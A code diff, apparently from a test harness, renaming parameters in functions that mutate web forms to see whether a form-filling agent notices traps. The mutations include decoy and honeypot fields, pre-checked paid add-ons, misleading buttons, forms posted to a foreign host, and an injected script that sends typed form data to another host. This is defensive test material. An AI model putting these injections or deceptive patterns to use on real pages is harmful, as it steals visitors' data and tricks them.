@@ -2,7 +2,7 @@ import type { PageMutation } from './page-rewriter.ts';
 
 // Each of these is handed to a browser as its own text: nothing from outside its body is there then.
 
-export const labelDetached: PageMutation = ({ texts, labelOf, below, page }) => {
+export const labelDetached: PageMutation = ({ textInputs: texts, labelOf, below, page }) => {
   const labelled = texts.filter((field) => labelOf(field));
   for (const field of labelled) {
     const label = labelOf(field);
@@ -23,7 +23,7 @@ export const labelDetached: PageMutation = ({ texts, labelOf, below, page }) => 
   return labelled.length > 0 ? {} : undefined;
 };
 
-export const labelSpacing: PageMutation = ({ page, any }) => {
+export const labelSpacing: PageMutation = ({ page, pickAny: any }) => {
   const labels = page.querySelectorAll('label, legend, form button');
   for (const label of labels) {
     const words = label.firstChild;
@@ -34,7 +34,7 @@ export const labelSpacing: PageMutation = ({ page, any }) => {
   return labels.length > 0 ? {} : undefined;
 };
 
-export const labelDecorated: PageMutation = ({ fields, labelOf, any }) => {
+export const labelDecorated: PageMutation = ({ fields, labelOf, pickAny: any }) => {
   let dressed = 0;
   for (const field of fields) {
     const words = labelOf(field)?.firstChild;
@@ -46,7 +46,7 @@ export const labelDecorated: PageMutation = ({ fields, labelOf, any }) => {
   return dressed > 0 ? {} : undefined;
 };
 
-export const labelsSwapped: PageMutation = ({ fields, labelOf, any }) => {
+export const labelsSwapped: PageMutation = ({ fields, labelOf, pickAny: any }) => {
   const one = any(fields.filter((field) => labelOf(field) && field.type !== 'radio'));
   const other = one && any(fields.filter((field) => field !== one && field.type === one.type && labelOf(field)));
   const [first, second] = [one && labelOf(one)?.firstChild, other && labelOf(other)?.firstChild];
@@ -56,14 +56,14 @@ export const labelsSwapped: PageMutation = ({ fields, labelOf, any }) => {
 };
 
 /** Another question in the place of ours, answered by the same field. */
-export const labelForOtherThing: PageMutation = ({ texts, labelOf, any }) => {
+export const labelForOtherThing: PageMutation = ({ textInputs: texts, labelOf, pickAny: any }) => {
   const words = any(texts.map((field) => labelOf(field)?.firstChild).filter((label) => label));
   if (!words) return undefined;
   words.textContent = `${any(['Previous', 'Former', 'Second', "Spouse's", 'Trailer:'])} ${words.textContent?.toLowerCase()}`;
   return {};
 };
 
-export const hintMoved: PageMutation = ({ page, any, form }) => {
+export const hintMoved: PageMutation = ({ page, pickAny: any, form }) => {
   const hints = form?.querySelectorAll('label span[id$="-hint"]') ?? [];
   for (const hint of hints) {
     const field = page.querySelector(`[aria-describedby~="${hint.id}"]`);
@@ -79,7 +79,7 @@ export const hintMoved: PageMutation = ({ page, any, form }) => {
 };
 
 /** The language that the page says it is in is another one. */
-export const wrongPageLanguage: PageMutation = ({ page, any }) => {
+export const wrongPageLanguage: PageMutation = ({ page, pickAny: any }) => {
   page.documentElement.lang = any(['', 'fr', 'de', 'en-US', 'it']) ?? '';
   return {};
 };
@@ -108,7 +108,7 @@ export const namesChanged: PageMutation = ({ page, form, fields, below }) => {
 };
 
 /** Each is named as the other was, and posted as it. */
-export const namesSwapped: PageMutation = ({ texts, any }) => {
+export const namesSwapped: PageMutation = ({ textInputs: texts, pickAny: any }) => {
   const one = any(texts);
   const other = any(texts.filter((field) => field !== one));
   if (!one || !other) return undefined;
@@ -138,7 +138,7 @@ export const submitButtonFirst: PageMutation = ({ form }) => {
   return {};
 };
 
-export const fieldsWrapped: PageMutation = ({ fields, groupOf, below, page, any }) => {
+export const fieldsWrapped: PageMutation = ({ fields, groupOf, below, page, pickAny: any }) => {
   for (const group of new Set(fields.map(groupOf))) {
     for (let depth = 1 + below(5); depth > 0; depth -= 1) {
       const wrapper = page.createElement(any(['div', 'section', 'span', 'article']) ?? 'div');
@@ -150,12 +150,13 @@ export const fieldsWrapped: PageMutation = ({ fields, groupOf, below, page, any 
   return fields.length > 0 ? {} : undefined;
 };
 
-export const fieldsInGroup: PageMutation = ({ group, any }) => group(any(['Your details', 'Part 2', 'Details']));
+export const fieldsInGroup: PageMutation = ({ wrapInGroup: group, pickAny: any }) =>
+  group(any(['Your details', 'Part 2', 'Details']));
 
-export const fieldsInForeignGroup: PageMutation = ({ group, any }) =>
+export const fieldsInForeignGroup: PageMutation = ({ wrapInGroup: group, pickAny: any }) =>
   group(any(['Second driver', 'Previous keeper', 'Trailer']));
 
-export const fieldsInTable: PageMutation = ({ texts, labelOf, groupOf, page }) => {
+export const fieldsInTable: PageMutation = ({ textInputs: texts, labelOf, groupOf, page }) => {
   for (const field of texts) {
     const label = labelOf(field);
     const row = page.createElement('tr');
@@ -171,7 +172,7 @@ export const fieldsInTable: PageMutation = ({ texts, labelOf, groupOf, page }) =
   return texts.length > 0 ? {} : undefined;
 };
 
-export const listAsRadios: PageMutation = ({ form, labelOf, page, any }) => {
+export const listAsRadios: PageMutation = ({ form, labelOf, page, pickAny: any }) => {
   const list = any([...(form?.querySelectorAll('select') ?? [])].filter((one) => labelOf(one)));
   if (!list) return undefined;
   const set = page.createElement('fieldset');
@@ -190,7 +191,7 @@ export const listAsRadios: PageMutation = ({ form, labelOf, page, any }) => {
   return {};
 };
 
-export const radiosAsList: PageMutation = ({ form, page, any }) => {
+export const radiosAsList: PageMutation = ({ form, page, pickAny: any }) => {
   const set = any([...(form?.querySelectorAll('fieldset') ?? [])].filter((one) => one.querySelector('[type=radio]')));
   const radios = [...(set?.querySelectorAll<HTMLInputElement>('[type=radio]') ?? [])];
   if (!set || !radios[0]) return undefined;
@@ -209,7 +210,7 @@ export const radiosAsList: PageMutation = ({ form, page, any }) => {
   return {};
 };
 
-export const optionsReworded: PageMutation = ({ form, any }) => {
+export const optionsReworded: PageMutation = ({ form, pickAny: any }) => {
   const list = any(form?.querySelectorAll('select') ?? []);
   if (!list) return undefined;
   for (const option of list.options)
@@ -218,7 +219,7 @@ export const optionsReworded: PageMutation = ({ form, any }) => {
   return {};
 };
 
-export const typeChanged: PageMutation = ({ texts, any, page }) => {
+export const typeChanged: PageMutation = ({ textInputs: texts, pickAny: any, page }) => {
   const field = any(texts);
   if (!field) return undefined;
   const way = any(['tel', 'search', 'number', 'password', 'textarea'] as const);
@@ -263,14 +264,14 @@ export const nativeDateInput: PageMutation = ({ page, day }) => {
   return { day: { name: field.name, order: 'YMD' } };
 };
 
-export const fieldTooShort: PageMutation = ({ texts, any, below }) => {
+export const fieldTooShort: PageMutation = ({ textInputs: texts, pickAny: any, below }) => {
   const field = any(texts);
   if (!field) return undefined;
   field.maxLength = 2 + below(3);
   return {};
 };
 
-export const caseChangedAsTyped: PageMutation = ({ texts, any, page }) => {
+export const caseChangedAsTyped: PageMutation = ({ textInputs: texts, pickAny: any, page }) => {
   const field = any(texts);
   if (!field) return undefined;
   const way = any(['value.toUpperCase()', 'value.toLowerCase()']);
@@ -284,7 +285,7 @@ export const caseChangedAsTyped: PageMutation = ({ texts, any, page }) => {
   return {};
 };
 
-export const valueAlteredAsTyped: PageMutation = ({ texts, any, page }) => {
+export const valueAlteredAsTyped: PageMutation = ({ textInputs: texts, pickAny: any, page }) => {
   const field = any(texts);
   if (!field) return undefined;
   const way = any(["value.replace(/[^\\w@.]/g, '')", 'value.slice(0, -1)', "value.replace(/\\d/, '0')"]);
@@ -299,7 +300,7 @@ export const valueAlteredAsTyped: PageMutation = ({ texts, any, page }) => {
 };
 
 /** After the visitor has looked a last time. */
-export const valueAlteredOnSubmit: PageMutation = ({ form, texts, any, page }) => {
+export const valueAlteredOnSubmit: PageMutation = ({ form, textInputs: texts, pickAny: any, page }) => {
   const field = any(texts);
   if (!form || !field) return undefined;
   const way = any(['value.slice(0, -2)', "'X' + value", 'value.split("").reverse().join("")']);
@@ -315,7 +316,7 @@ export const valueAlteredOnSubmit: PageMutation = ({ form, texts, any, page }) =
   return {};
 };
 
-export const extraOptionalField: PageMutation = ({ form, insert, any }) => {
+export const extraOptionalField: PageMutation = ({ form, insert, pickAny: any }) => {
   if (!form) return undefined;
   insert(
     any([
@@ -328,7 +329,7 @@ export const extraOptionalField: PageMutation = ({ form, insert, any }) => {
   return {};
 };
 
-export const extraRequiredField: PageMutation = ({ form, insert, any }) => {
+export const extraRequiredField: PageMutation = ({ form, insert, pickAny: any }) => {
   if (!form) return undefined;
   insert(
     any([
@@ -342,7 +343,7 @@ export const extraRequiredField: PageMutation = ({ form, insert, any }) => {
   return {};
 };
 
-export const prefilledExtraField: PageMutation = ({ form, insert, any }) => {
+export const prefilledExtraField: PageMutation = ({ form, insert, pickAny: any }) => {
   if (!form) return undefined;
   insert(
     any([
@@ -355,14 +356,14 @@ export const prefilledExtraField: PageMutation = ({ form, insert, any }) => {
 };
 
 /** What another visitor left in a field of ours. */
-export const prefilledOwnField: PageMutation = ({ texts, any }) => {
+export const prefilledOwnField: PageMutation = ({ textInputs: texts, pickAny: any }) => {
   const field = any(texts);
   if (!field) return undefined;
   field.setAttribute('value', any(['Martin', 'W 1234 X', '01/01/2001', '1']) ?? '');
   return {};
 };
 
-export const preselectedOwnOption: PageMutation = ({ form, any }) => {
+export const preselectedOwnOption: PageMutation = ({ form, pickAny: any }) => {
   const list = any(form?.querySelectorAll('select') ?? []);
   const radio = any(form?.querySelectorAll<HTMLInputElement>('[type=radio]') ?? []);
   if (list) any([...list.options].filter(({ value }) => value))?.setAttribute('selected', '');
@@ -370,7 +371,7 @@ export const preselectedOwnOption: PageMutation = ({ form, any }) => {
   return list || radio ? {} : undefined;
 };
 
-export const checkedExtraBox: PageMutation = ({ form, insert, any }) => {
+export const checkedExtraBox: PageMutation = ({ form, insert, pickAny: any }) => {
   if (!form) return undefined;
   const words = any(['Send me offers of our partners', 'Add insurance for EUR 9.90', 'Renew it every year', '']);
   insert(`<p><input type="checkbox" id="m1" name="mutant-tick" checked><label for="m1">${words}</label></p>`);
@@ -384,7 +385,7 @@ export const checkedOwnBoxes: PageMutation = ({ form }) => {
   return ticks.length > 0 ? {} : undefined;
 };
 
-export const honeypot: PageMutation = ({ texts, labelOf, groupOf, any }) => {
+export const honeypot: PageMutation = ({ textInputs: texts, labelOf, groupOf, pickAny: any }) => {
   const field = any(texts);
   if (!field) return undefined;
   const hidden = any([
@@ -403,7 +404,7 @@ export const honeypot: PageMutation = ({ texts, labelOf, groupOf, any }) => {
 };
 
 /** Before a field one that asks for nearly the same. */
-export const decoy: PageMutation = ({ texts, labelOf, groupOf, any }) => {
+export const decoy: PageMutation = ({ textInputs: texts, labelOf, groupOf, pickAny: any }) => {
   const field = any(texts.filter((one) => labelOf(one)));
   if (!field) return undefined;
   const words = labelOf(field)?.firstChild?.textContent?.trim() ?? '';
@@ -422,7 +423,7 @@ export const decoy: PageMutation = ({ texts, labelOf, groupOf, any }) => {
 };
 
 /** Its own address is a trap. */
-export const otherForm: PageMutation = ({ form, texts, labelOf, any }) => {
+export const otherForm: PageMutation = ({ form, textInputs: texts, labelOf, pickAny: any }) => {
   if (!form) return undefined;
   const field = any(texts);
   const words = (field && labelOf(field)?.firstChild?.textContent) || 'E-mail address';
@@ -435,7 +436,7 @@ export const otherForm: PageMutation = ({ form, texts, labelOf, any }) => {
 };
 
 /** Called like ours, and it leads elsewhere. */
-export const misleadingButton: PageMutation = ({ form, any }) => {
+export const misleadingButton: PageMutation = ({ form, pickAny: any }) => {
   const button = form?.querySelector('button[type=submit]');
   if (!button) return undefined;
   const way = any(['formaction="mutant-form"', 'name="mutant-act" value="cancel"', 'type="button"']);
@@ -467,7 +468,7 @@ export const amountChanged: PageMutation = ({ page, pick }) => {
   return changed > 0 ? {} : undefined;
 };
 
-export const secondAmount: PageMutation = ({ page, form, any }) => {
+export const secondAmount: PageMutation = ({ page, form, pickAny: any }) => {
   if (!form || !/(€|EUR)\s*\d|\d[.,]\d\d\s*(€|EUR)/.test(page.body.textContent ?? '')) return undefined;
   form.insertAdjacentHTML(
     'beforebegin',
@@ -477,7 +478,7 @@ export const secondAmount: PageMutation = ({ page, form, any }) => {
 };
 
 /** What was entered, shown back with its end cut off. */
-export const summaryValueCut: PageMutation = ({ page, shown, any, below }) => {
+export const summaryValueCut: PageMutation = ({ page, shown, pickAny: any, below }) => {
   const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
   const line = any(lines);
   if (!line) return undefined;
@@ -486,7 +487,7 @@ export const summaryValueCut: PageMutation = ({ page, shown, any, below }) => {
 };
 
 /** Somebody else's answer in the place of ours. */
-export const summaryValueForeign: PageMutation = ({ page, shown, any }) => {
+export const summaryValueForeign: PageMutation = ({ page, shown, pickAny: any }) => {
   const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
   const line = any(lines);
   if (!line) return undefined;
@@ -495,7 +496,7 @@ export const summaryValueForeign: PageMutation = ({ page, shown, any }) => {
 };
 
 /** Two answers of ours that have changed places. */
-export const summaryValuesSwapped: PageMutation = ({ page, shown, any }) => {
+export const summaryValuesSwapped: PageMutation = ({ page, shown, pickAny: any }) => {
   const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
   const one = any(lines);
   const other = any(lines.filter(({ textContent }) => textContent !== one?.textContent));
@@ -510,7 +511,7 @@ export const summaryValuesMissing: PageMutation = ({ page, shown }) => {
   return lines.length > 0 ? {} : undefined;
 };
 
-export const blockingOverlay: PageMutation = ({ page, any }) => {
+export const blockingOverlay: PageMutation = ({ page, pickAny: any }) => {
   const button = any(['Close', 'No thanks', 'Stay on this page', 'Continue', '×']);
   page.body.insertAdjacentHTML(
     'beforeend',
@@ -519,7 +520,7 @@ export const blockingOverlay: PageMutation = ({ page, any }) => {
   return {};
 };
 
-export const browserDialogs: PageMutation = ({ page, any }) => {
+export const browserDialogs: PageMutation = ({ page, pickAny: any }) => {
   const script = page.createElement('script');
   script.textContent =
     any([
@@ -538,7 +539,7 @@ export const formToForeignHost: PageMutation = ({ form, elsewhere }) => {
 };
 
 /** A script that tells another host what is typed. */
-export const exfiltrationScript: PageMutation = ({ page, form, elsewhere, any }) => {
+export const exfiltrationScript: PageMutation = ({ page, form, elsewhere, pickAny: any }) => {
   if (!form) return undefined;
   const way = any([
     'new Image().src = there + "?" + body',
@@ -565,7 +566,7 @@ export const linksToForeignHost: PageMutation = ({ page, elsewhere }) => {
 };
 
 /** Words of a no where a portal does not say one. */
-export const unrelatedRefusal: PageMutation = ({ page, any }) => {
+export const unrelatedRefusal: PageMutation = ({ page, pickAny: any }) => {
   const words = any([
     'What if the payment was declined?',
     'This field is required.',
